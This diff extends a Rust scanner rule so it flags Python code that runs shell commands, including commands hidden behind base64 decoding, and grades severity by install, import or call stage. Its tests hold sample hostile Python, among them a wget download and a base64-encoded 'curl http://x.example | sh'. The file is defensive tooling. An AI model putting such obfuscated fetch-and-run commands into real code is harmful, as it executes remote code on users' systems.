@@ -1,5 +1,6 @@
 use super::vocab;
 use crate::declare_rule;
+use crate::inspect::python::Sink;
 use crate::inspect::rules::{Rule, RuleMeta};
 use crate::inspect::{Analysis, Finding, Severity, Stage};
 
@@ -35,10 +36,37 @@ impl Rule for ShellCommand {
 
     fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
         for unit in analysis.units() {
-            for call in unit.code.calls.iter().filter(|c| vocab::is_shell(&c.name)) {
-                let Some(what) = call.arg_strs.iter().find_map(|s| vocab::dangerous_command(s)) else {
-                    continue;
+            // Commands decoded from base64 & co. and handed to a shell.
+            for p in unit.code.payloads.iter().filter(|p| p.sink == Sink::Shell) {
+                let severity = match p.stage {
+                    Stage::Install | Stage::Import => Severity::Critical,
+                    Stage::Call => Severity::High,
+                    Stage::Auxiliary => Severity::Low,
                 };
+                let shown: String = p.text.as_deref().unwrap_or("").chars().take(80).collect();
+                let message = format!(
+                    "runs a shell command decoded with {} {} (`{shown}`)",
+                    p.steps.join(" → "),
+                    p.stage.describe()
+                );
+                out.push(unit.finding(Self::META.id, severity, p.line, message));
+            }
+            let decoded_commands: Vec<&str> = unit
+                .code
+                .payloads
+                .iter()
+                .filter(|p| p.sink != Sink::Shell)
+                .filter_map(|p| p.text.as_deref())
+                .filter(|t| vocab::dangerous_command(t).is_some())
+                .collect();
+            for call in unit.code.calls.iter().filter(|c| vocab::is_shell(&c.name)) {
+                let what = call
+                    .arg_strs
+                    .iter()
+                    .map(String::as_str)
+                    .chain(decoded_commands.iter().copied())
+                    .find_map(vocab::dangerous_command);
+                let Some(what) = what else { continue };
                 let severity = match call.stage {
                     Stage::Install => Severity::Critical,
                     Stage::Import => Severity::High,
@@ -78,6 +106,18 @@ mod tests {
             "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n",
         );
         assert_eq!(f.len(), 1, "folded variable argument");
+    }
+
+    #[test]
+    fn fires_on_decoded_commands() {
+        // Error: a command decoded through a helper function.
+        let src = "import base64, os\ndef b64d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nos.system(b64d('dHlwZSBudWwgPiBwcnVlYmExMS50eHQ='))\n";
+        let f = setup_py(&ShellCommand, src);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // Error: decoded into a variable, then run.
+        let src = "import base64, subprocess\ndef go():\n    cmd = base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g=').decode()\n    subprocess.run(cmd, shell=True)\ngo()\n";
+        let f = setup_py(&ShellCommand, src);
+        assert_eq!(f.len(), 1, "{f:?}");
     }
 
     #[test]
